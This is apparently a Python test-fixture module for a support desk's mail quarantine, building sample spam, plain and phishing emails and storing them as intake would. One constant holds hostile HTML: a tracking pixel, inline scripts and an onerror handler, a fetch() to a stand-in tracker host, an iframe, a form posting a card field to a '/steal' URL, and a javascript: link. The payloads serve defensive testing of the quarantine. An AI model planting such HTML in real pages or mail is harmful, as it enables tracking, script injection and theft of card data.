"""Mail in the quarantine for the quarantine's tests: held the way intake holds it
(services/email_intake.py's `_screen` calls db.quarantine.hold with screening's verdict,
then logs the delivery),
without spamd or DNS, which other tests exercise."""

from __future__ import annotations

import uuid
from email.message import EmailMessage
from email.utils import make_msgid
from hashlib import sha256

from sqlalchemy.ext.asyncio import AsyncEngine, async_sessionmaker

from adapters.email.parse import parse_message
from db import email_intake, quarantine
from domain.mail_screening import (
    AuthResults,
    Envelope,
    Reason,
    Screening,
    SpamScore,
    Verdict,
)

# SpamAssassin's Generic Test for Unsolicited Bulk Email: spamd scores it 1000.
GTUBE = "XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X"
SUPPORT = "support@desk.example"
TRACKER = "tracker.invalid"
# What a hostile HTML-only mail tries: a remote image (a read receipt), scripts, handlers,
# a form posting elsewhere, a style sheet from afar, a frame.
HOSTILE_HTML = f"""<html><head><link rel="stylesheet" href="http://{TRACKER}/style.css">
<style>body {{ background: url(http://{TRACKER}/bg.png) }}</style></head><body>
<p>Your invoice is attached, please pay today.</p>
<img src="http://{TRACKER}/pixel.gif?u=ada" width="1" height="1">
<img src="x" onerror="alert('onerror ran')">
<script>alert('script ran'); fetch('http://{TRACKER}/script')</script>
<iframe src="http://{TRACKER}/frame"></iframe>
<form action="http://{TRACKER}/steal"><input name="card"></form>
<a href="javascript:alert('link ran')">Pay now</a>
</body></html>"""


def gtube_mail(*, sender: str = "promo@bulk.example", subject: str = "Cheap watches") -> bytes:
    return plain_mail(sender=sender, subject=subject,
                      body=f"Buy now!\n\n{GTUBE}\n")


def plain_mail(*, sender: str = "ada@example.com", subject: str = "My order is wrong",
               body: str = "I got an L, I ordered an M.") -> bytes:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = f"Sender <{sender}>", SUPPORT, subject
    msg["Message-ID"] = make_msgid(domain="mail.example")
    msg["Date"] = "Fri, 04 Dec 2026 10:00:00 +0000"
    msg.set_content(body)
    return bytes(msg)


def hostile_html_mail(*, sender: str = "billing@phish.example",
                      subject: str = "Invoice overdue") -> bytes:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = f"Billing <{sender}>", SUPPORT, subject
    msg["Message-ID"] = make_msgid(domain="phish.example")
    msg.set_content(HOSTILE_HTML, subtype="html")
    msg.add_attachment(b"%PDF-1.4 not really", maintype="application", subtype="pdf",
                       filename="invoice.pdf")
    return bytes(msg)


def spam_screening(score: float = 1000.0) -> Screening:
    auth = AuthResults(spf="pass", dkim="none", dmarc="none", from_domain="bulk.example")
    return Screening(Verdict.QUARANTINE, Reason.SPAM, auth,
                     SpamScore(score=score, checked=True, rules=("GTUBE",)))


def dmarc_screening() -> Screening:
    auth = AuthResults(spf="fail", dkim="fail", dmarc="fail", dmarc_policy="quarantine",
                       from_domain="phish.example")
    return Screening(Verdict.QUARANTINE, Reason.DMARC_QUARANTINE, auth, SpamScore())


async def hold(engine: AsyncEngine, raw: bytes, screening: Screening | None = None, *,
               client_ip: str = "192.0.2.7") -> uuid.UUID:
    """Held as intake holds a mail screening quarantined."""
    mail = parse_message(raw)
    sessions = async_sessionmaker(engine, expire_on_commit=False)
    async with sessions() as session:
        screening = screening or spam_screening()
        held = await quarantine.hold(
            session=session, dedupe_key=f"email:{mail.message_id or sha256(raw).hexdigest()}",
            raw=raw, source="smtp",
            message_id=mail.message_id, from_address=mail.from_address, subject=mail.subject,
            envelope=Envelope(client_ip=client_ip, helo="mx.bulk.example",
                              mail_from=mail.from_address),
            screening=screening)
        # Intake logs every delivery with its bytes, a held one too.
        await email_intake.log_inbound(
            session=session, raw=raw, source="smtp", message_id=mail.message_id,
            from_address=mail.from_address, subject=mail.subject, outcome="quarantined",
            ticket_id=None, defects=[], screening=screening)
        return held
